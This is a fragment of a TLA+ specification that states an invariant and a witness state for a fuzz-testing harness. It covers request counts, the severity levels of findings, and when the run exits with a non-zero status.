\* C30: in the fuzz harness every fuzz_endpoint call with a supported verb
\* issues one HTTP request and adds one to request_count (120 of each in
\* manual mode); every finding has a severity among CRITICAL, HIGH, MEDIUM and
\* LOW, so that generate_report's grouping does not fail; and the run ends with
\* a non-zero status exactly when a CRITICAL or HIGH finding was recorded.
C30_FuzzerCountsAndExit ==
    /\ fuzz.request_count = fuzz.calls
    /\ fuzz.sent = fuzz.calls - fuzz.unsupported
    /\ \A i \in DOMAIN fuzz.findings : fuzz.findings[i].severity \in SeverityKeys
    /\ fuzz.pc # "crashed"
    /\ fuzz.pc = "exited"
           => /\ fuzz.request_count = 120 /\ fuzz.sent = 120
              /\ fuzz.exit # <<0>>
                     <=> \E i \in DOMAIN fuzz.findings :
                             fuzz.findings[i].severity \in {"CRITICAL", "HIGH"}

C30_Witness ==
    /\ fuzz.pc = "exited" /\ fuzz.exit = <<1>> /\ fuzz.sent = 120
    /\ Len(fuzz.findings) = 2
    /\ fuzz.findings[1].severity = "MEDIUM" /\ fuzz.findings[2].type = "Exception"

====
